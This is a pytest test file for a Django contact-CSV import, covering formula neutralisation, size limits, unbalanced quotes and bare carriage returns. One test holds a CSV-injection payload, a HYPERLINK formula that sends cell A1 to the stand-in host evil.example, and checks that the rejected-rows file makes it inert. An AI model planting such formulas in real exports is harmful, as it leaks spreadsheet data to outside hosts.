"""What an import upload may hold (issue 9, items 11 and 12).

- the rejected-rows CSV neutralises spreadsheet formulas as the export does;
- a CSV over ``CONTACT_IMPORT_MAX_BYTES`` is refused with the limit in the message (413 JSON
  in the API, a form error in the page) and nothing is stored;
- an unbalanced quote, which makes a CSV reader swallow the following lines into one row, is
  reported as a rejected row with its row and line numbers, never imported silently;
- a file whose lines end in a bare ``\\r`` (old Mac, some exporters) imports like any other.
"""

import csv
import io
from pathlib import Path

import pytest
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.models import Role
from audience import tasks
from audience.models import Contact, ImportJob
from audience.services.imports import import_create
from core.uploads import UploadTooLarge


def _csv(rows, lineterminator="\r\n") -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator=lineterminator).writerows(rows)
    return out.getvalue().encode()


def _upload(api, content: bytes, name="contacts.csv"):
    return api.post(
        "/api/contacts/import",
        {"file": SimpleUploadedFile(name, content, content_type="text/csv")},
    )


def _run(api, content: bytes) -> ImportJob:
    response = _upload(api, content)
    assert response.status_code == 202, response.content
    tasks.contacts_import(response.json()["jobId"])
    return ImportJob.objects.get(pk=response.json()["jobId"])


def _error_rows(job: ImportJob) -> list[list[str]]:
    with job.error_file.open("rb") as f:
        return list(csv.reader(io.StringIO(f.read().decode())))


def _files_under(root) -> list[Path]:
    return [p for p in Path(root).rglob("*") if p.is_file()]


# --- formulas in the rejected rows ------------------------------------------------------------


def test_the_rejected_rows_file_neutralises_spreadsheet_formulas(api, account):
    # given rows rejected for their phone, whose other cells are formulas
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
    content = _csv(
        [
            ["phone", "first_name", "last_name", "=1+2"],
            ["not-a-phone", hyperlink, "@SUM(1)", "-2+3"],
            ["+33612345678", "Ada", "Lovelace", "ok"],
        ]
    )
    # when it is imported
    job = _run(api, content)
    # then the rejected rows file holds the same text, made inert the way the export does it
    header, row = _error_rows(job)
    assert header == ["phone", "first_name", "last_name", "'=1+2", "import_row", "import_error"]
    assert row[:4] == ["not-a-phone", "'" + hyperlink, "'@SUM(1)", "'-2+3"]
    assert row[4] == "2"
    assert row[5].startswith("phone: ")
    assert Contact.objects.filter(account=account).count() == 1


# --- size caps ------------------------------------------------------------------------------------


def test_a_csv_over_the_limit_is_a_413_json_answer_and_stores_nothing(api, account, settings):
    # given a limit of 1 KB
    settings.CONTACT_IMPORT_MAX_BYTES = 1024
    content = _csv([["phone"], *[[f"+336123{n:05d}"] for n in range(200)]])
    assert len(content) > 2048
    # when a larger file is posted
    response = _upload(api, content)
    # then the answer says so, as JSON, and nothing was kept
    assert response.status_code == 413
    body = response.json()
    assert body["code"] == "too_large"
    assert "the limit is 1 KB" in body["detail"]
    assert body["errors"][0]["field"] == "file"
    assert not ImportJob.objects.exists()
    assert _files_under(settings.PRIVATE_MEDIA_ROOT) == []
    # and a file under the limit is still accepted
    assert _upload(api, content[:1000].rsplit(b"\r\n", 1)[0] + b"\r\n").status_code == 202


def test_a_csv_over_the_limit_is_a_form_error_in_the_page(client, account, make_member, settings):
    settings.CONTACT_IMPORT_MAX_BYTES = 1024
    client.force_login(make_member(account, Role.MARKETER))
    content = _csv([["phone"], *[[f"+336123{n:05d}"] for n in range(200)]])
    response = client.post(
        reverse("audience:contacts_import"),
        {"file": SimpleUploadedFile("big.csv", content, content_type="text/csv")},
    )
    assert response.status_code == 422
    assert "the limit is 1 KB" in response.content.decode()
    assert "up to 1 KB" in response.content.decode()  # the form says the limit up front
    assert not ImportJob.objects.exists()
    assert _files_under(settings.PRIVATE_MEDIA_ROOT) == []


def test_a_fifty_megabyte_csv_is_refused_by_default(account, tmp_path, settings):
    # given a 50 MB CSV and the default limit
    path = tmp_path / "big.csv"
    line = b"+33612345678,Ada,Lovelace,ada@example.com\n"
    path.write_bytes(b"phone,first_name,last_name,email\n" + line * (50 * 2**20 // len(line)))
    assert path.stat().st_size >= 50 * 2**20 - len(line)
    # when it is uploaded, then it is refused before anything is stored
    with open(path, "rb") as f, pytest.raises(UploadTooLarge, match="the limit is 25 MB"):
        import_create(account=account, upload=File(f, name="big.csv"), queue=False)
    assert not ImportJob.objects.exists()
    assert _files_under(settings.PRIVATE_MEDIA_ROOT) == []


# --- unbalanced quotes --------------------------------------------------------------------------


def test_a_quote_never_closed_is_reported_with_its_row_not_imported_silently(api, account):
    # given a file whose third row opens a quote that nothing closes
    content = (
        b"phone,first_name\n"
        b"+33612345601,Ada\n"
        b'+33612345602,"Bob\n'
        b"+33612345603,Cy\n"
        b"+33612345604,Dan\n"
    )
    # when it is imported
    job = _run(api, content)
    # then Ada is in, and row 3 is rejected with the lines it swallowed
    assert job.status == "completed"
    assert (job.imported, job.failed) == (1, 1)
    [error] = job.errors
    assert error["row"] == 3
    assert "quote" in error["message"]
    assert "lines 3–5" in error["message"]
    assert "Row 3" in job.message
    assert "quote" in job.message
    phones = set(Contact.objects.filter(account=account).values_list("phone", flat=True))
    assert phones == {"+33612345601"}
    # and the row is in the rejected rows file, with its row number
    assert _error_rows(job)[1][2] == "3"


def test_a_quote_closed_further_down_rejects_the_merged_row_and_goes_on(api, account):
    content = (
        b"phone,first_name\n"
        b"+33612345601,Ada\n"
        b'+33612345602,"Bob\n'
        b"+33612345603,Cy\n"
        b'+33612345604,Dan"\n'
        b"+33612345605,Eve\n"
    )
    job = _run(api, content)
    assert (job.imported, job.failed, job.processed) == (2, 1, 3)
    assert [e["row"] for e in job.errors] == [3]
    assert "lines 3–5" in job.errors[0]["message"]
    eve = Contact.objects.get(account=account, phone="+33612345605")
    assert eve.first_name == "Eve"


def test_a_quoted_value_on_several_lines_is_still_imported(api, account):
    # given a real multi-line value (an address), properly quoted
    content = _csv(
        [
            ["phone", "first_name", "address"],
            ["+33612345601", "Ada", "1 Main Street\nFloor 2"],
            ["+33612345602", "Bob", "2 Rue de la Paix\n75002 Paris, France"],
        ]
    )
    job = _run(api, content)
    assert (job.imported, job.failed) == (2, 0)
    addresses = dict(
        Contact.objects.filter(account=account).values_list("first_name", "attributes__address")
    )
    assert addresses == {
        "Ada": "1 Main Street\nFloor 2",
        "Bob": "2 Rue de la Paix\n75002 Paris, France",
    }


def test_a_quote_that_swallows_more_than_the_reader_holds_is_reported(api, account):
    # given a quote opened on row 2, followed by ~250 KB of rows: more than one CSV field may
    # hold (131,072 characters), so the reader gives up part-way
    note = "x" * 100
    rows = [f"+3361{n:07d},Name{n},{note}\n" for n in range(2000)]
    content = ("phone,first_name,note\n" + '+33699999999,"Ada,x\n' + "".join(rows)).encode()
    # when it is imported
    job = _run(api, content)
    # then the import completes, says where the quote is, and imports the rows after the
    # lines the reader gave up on
    assert job.status == "completed", job.message
    assert job.errors[0]["row"] == 2
    assert "quote" in job.errors[0]["message"]
    assert "Row 2" in job.message
    assert Contact.objects.filter(account=account, phone=f"+3361{1999:07d}").exists()
    assert not Contact.objects.filter(account=account, phone="+33699999999").exists()


# --- bare carriage returns ----------------------------------------------------------------------


def test_a_csv_with_bare_carriage_returns_imports(api, account):
    # given lines that end in \r alone
    content = b"phone,first_name\r+33612345601,Ada\r+33612345602,Bob\r"
    # when it is uploaded through the API and run
    job = _run(api, content)
    # then both rows are contacts
    assert (job.status, job.imported, job.failed) == ("completed", 2, 0)
    names = dict(Contact.objects.filter(account=account).values_list("phone", "first_name"))
    assert names == {"+33612345601": "Ada", "+33612345602": "Bob"}


def test_a_csv_with_bare_carriage_returns_shows_its_columns_for_review(
    client, account, make_member
):
    client.force_login(make_member(account, Role.MARKETER))
    content = b"Mobile,Nick\r+33612345601,Ada\r+33612345602,Bob\r"
    uploaded = client.post(
        reverse("audience:contacts_import"),
        {"file": SimpleUploadedFile("mac.csv", content), "review": "on"},
    )
    assert uploaded.status_code == 302
    page = client.get(uploaded["Location"])
    html = page.content.decode()
    assert page.status_code == 200
    assert "Mobile" in html
    assert "Nick" in html
    assert "+33612345602" in html  # a sample value of the second row
